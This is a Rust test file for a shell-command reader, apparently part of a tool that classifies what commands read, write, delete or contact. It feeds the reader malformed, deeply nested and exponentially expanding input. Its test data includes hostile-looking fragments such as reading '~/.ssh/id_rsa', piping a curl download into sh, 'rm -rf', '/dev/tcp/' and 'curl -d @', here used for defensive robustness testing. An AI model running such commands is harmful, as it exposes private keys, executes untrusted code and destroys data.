//! Input that is broken, or made to hurt: nothing panics, nothing explodes, nothing is passed over in silence.

use proptest::prelude::*;

use super::{CONTEXT, Case, check, lines};
use crate::{LONGEST, Problem, read, read_argv, reader_of};

const BROKEN: &[Case] = &[
    (
        "cat ~/.ssh/id_rsa; \"",
        &[
            "! Unparsable",
            "cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        "curl h.example.org | sh; if",
        &["! Unparsable", "curl h.example.org H=h.example.org", "sh"],
    ),
    ("cat f)", &["! Unparsable", "cat f R=f"]),
    ("cat f > g '", &["! Unparsable", "cat f R=f W=g"]),
    (
        "for x in a; do\nrm -rf y\ncat 'z",
        &["! Unparsable", "rm -rf y D=y", "cat z R=z"],
    ),
    ("$(cat f", &["! Unparsable", "cat f R=f"]),
    ("cat <<EOF\nno end", &["cat"]),
    ("done", &["! Unparsable"]),
    ("", &[]),
    ("   \n\t", &[]),
    ("\u{0}", &["\u{0}"]),
];

#[test]
fn broken_text_is_marked_and_still_looked_at() {
    check(BROKEN);
}

/// How often the pieces of hostile texts are repeated.
const MANY: usize = 20_000;

#[test]
fn nesting_neither_overflows_the_stack_nor_multiplies() {
    let open = [
        "(",
        "$(",
        "\"$(",
        "{",
        "{ ",
        "${a:-",
        "$((",
        "((",
        "`",
        "if ",
        "while ",
        "until ",
        "! ",
        "coproc ",
        "coproc X { ",
        "function a ",
        "a() ",
        "for a do ",
        "case a in a) ",
        "select a in b; do ",
        "<(",
        "[[ ",
        "a=(",
        "a[",
        "ls a[",
        "'",
        "$'",
        "cat <<A\n",
        "eval ",
        "sudo ",
        "time ",
        "sh -c \"",
        "if while until ",
        "{a,",
        "\\",
        ">a ",
    ];
    for piece in open {
        let reading = read(&piece.repeat(MANY), CONTEXT);
        assert!(reading.invocations.len() <= 4096, "{piece}");
    }
}

#[test]
fn closed_nesting_that_is_too_deep_is_a_problem() {
    for (open, close) in [
        ("( ", " )"),
        ("{ ", ";}"),
        ("$(", ")"),
        ("if a; then ", "; fi"),
        ("case a in a) ", ";; esac"),
        ("while a; do ", "; done"),
        ("echo \"$(", ")\""),
    ] {
        let text = format!("{}cat f{}", open.repeat(100), close.repeat(100));
        let reading = read(&text, CONTEXT);
        assert!(reading.problems.contains(&Problem::TooDeep), "{open}");
    }
}

#[test]
fn nesting_that_is_usual_is_followed() {
    for (open, close, depth) in [
        ("( ", " )", 20),
        ("{ ", ";}", 20),
        ("$(", ")", 8),
        ("if a; then ", "; fi", 20),
        ("case a in a) ", ";; esac", 3),
        ("while a; do ", "; done", 20),
    ] {
        let text = format!("{}cat f{}", open.repeat(depth), close.repeat(depth));
        let found = lines(&read(&text, CONTEXT));
        assert!(found.contains(&"cat f R=f".to_owned()), "{text}: {found:?}");
    }
}

#[test]
fn values_and_loops_do_not_explode() {
    let texts = [
        "x=aaaaaaaa;".to_owned() + &"x=$x$x;".repeat(1000) + "echo $x",
        "echo ".to_owned() + &"{a,b}".repeat(1000),
        "for a in 1 2 3 4 5 6 7 8 9; do ".repeat(20) + "x=1" + &"; done".repeat(20),
        "for a in {1..60}; do ".repeat(6) + "echo $a" + &"; done".repeat(6),
        (0..60)
            .map(|n| format!("f{n}(){{ f{0}; f{0}; }};", n + 1))
            .collect::<Vec<_>>()
            .concat()
            + "f0",
        (0..40)
            .map(|n| format!("alias a{n}='a{0};a{0}';", n + 1))
            .collect::<Vec<_>>()
            .concat()
            + "a0",
        format!(
            "x={};{}",
            "a".repeat(60_000),
            "echo ${x//a/bb};".repeat(500)
        ),
        format!(
            "x={};{}",
            "a".repeat(120),
            "echo ${x//*b*/c}${x##*b*b*b};".repeat(500)
        ),
        "echo \"echo a >> f; sh f; sh f\" > f; sh f".to_owned(),
        "echo x".to_owned() + &"|rev".repeat(5000) + "|sh",
        "a;".repeat(MANY),
        "a|".repeat(MANY) + "a",
    ];
    for text in texts {
        let reading = read(&text, CONTEXT);
        assert!(reading.invocations.len() <= 4096);
        let longest = reading
            .invocations
            .iter()
            .flat_map(|one| &one.args)
            .map(|word| word.text.len());
        assert!(longest.max().unwrap_or(0) <= 64 * 1024);
    }
}

/// Work beyond the budget that the last step may do before it notices.
const LAST_STEP: usize = 4 * 64 * 1024;

/// What it costs to pass over each command that is left, by the length of its text.
const PASSED_OVER: usize = 32;

/// Whether reading stayed within its budget, which is linear in the text's length.
fn is_bounded(text: &str) -> bool {
    let (work, most) = reader_of(text, CONTEXT).work();
    let linear = 512 * 1024 + 16 * text.len();
    most <= linear && work <= most + LAST_STEP + PASSED_OVER * text.len()
}

#[test]
fn work_is_linear_in_the_length() {
    for piece in [
        "$(",
        "((",
        "a|",
        "a;",
        "{a,b}",
        "echo x|rev|",
        "eval ",
        "f(){ f;};f;",
        "x=$x$x;",
        "cat <<A\n",
        "`",
        "a=(",
        "for a in b; do ",
        "python3 -c 'exec(1)';",
        "sed 's/a/b/e';",
        "parallel a ::: b ::: c;",
        "pwsh -c '((';",
    ] {
        for many in [10, 1000, 20_000] {
            assert!(is_bounded(&piece.repeat(many)), "{many} times {piece}");
        }
    }
}

#[test]
fn what_is_too_long_is_said_to_be() {
    let text = "a ".repeat(LONGEST);
    assert_eq!(read(&text, CONTEXT).problems, [Problem::TooLong]);
    let words = vec!["a".repeat(LONGEST), "b".to_owned()];
    assert_eq!(read_argv(&words, CONTEXT).problems, [Problem::TooLong]);
    let text = "x=a;".to_owned() + &"x=$x$x;".repeat(40) + "echo $x";
    assert_eq!(read(&text, CONTEXT).problems, [Problem::TooLong]);
}

/// Pieces that mean something to a shell.
const PIECES: &[&str] = &[
    "cat",
    " ",
    "~/.ssh/id_rsa",
    "$(",
    ")",
    "`",
    "\"",
    "'",
    "${",
    "}",
    "$x",
    "x=",
    ";",
    "|",
    "&",
    "&&",
    "||",
    "<",
    ">",
    "<<",
    "<<<",
    "EOF",
    "\n",
    "{",
    ",",
    "(",
    "((",
    "))",
    "if ",
    "then ",
    "fi",
    "for x in ",
    "do ",
    "done",
    "case ",
    " in ",
    "esac",
    ";;",
    "$'",
    "\\",
    "*",
    "?",
    "[",
    "]",
    "[[ ",
    " ]]",
    "sh -c ",
    "eval ",
    "sudo ",
    "xargs ",
    "find . -exec ",
    "base64 -d",
    "printf '\\x",
    "echo ",
    "python3 -c ",
    "tr a b",
    "sed s/a/b/",
    "-",
    "--",
    "=",
    ":",
    "1",
    "9",
    "\u{e9}",
    "\u{1f600}",
    "#",
    "f() {",
    "alias a=",
    "${x:-",
    "${x//",
    "${#",
    "/dev/tcp/",
    "!",
    "@",
    "%",
    "tar ",
    "pwsh -c ",
    "npx ",
    "parallel ",
    ":::",
    "make -f -",
    "$((",
    "| gunzip",
    "git -c ",
    "curl -d @",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_text_is_read(text in "\\PC{0,200}") {
        let _ = read(&text, CONTEXT);
    }

    #[test]
    fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = read(&text, CONTEXT);
    }

    #[test]
    fn any_mixture_of_shell_is_read(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let text = pieces.concat();
        prop_assert!(is_bounded(&text));
        let reading = read(&text, CONTEXT);
        for (index, invocation) in reading.invocations.iter().enumerate() {
            let from = invocation.stdin_from.iter().chain(&invocation.args_from);
            for other in from {
                prop_assert!(*other < reading.invocations.len() && *other != index);
            }
        }
    }

    #[test]
    fn quoted_words_come_back(words in prop::collection::vec("[^\u{0}']{1,20}", 1..6)) {
        let line = words.iter().map(|word| format!("'{word}'")).collect::<Vec<_>>().join(" ");
        let reading = read(&format!("true {line}"), CONTEXT);
        let found: Vec<&str> = reading.invocations[0].args.iter().map(|word| word.text.as_str()).collect();
        prop_assert_eq!(found, words);
    }

    #[test]
    fn words_of_a_list_are_read(words in prop::collection::vec("\\PC{0,40}", 0..6)) {
        let _ = read_argv(&words, CONTEXT);
    }
}
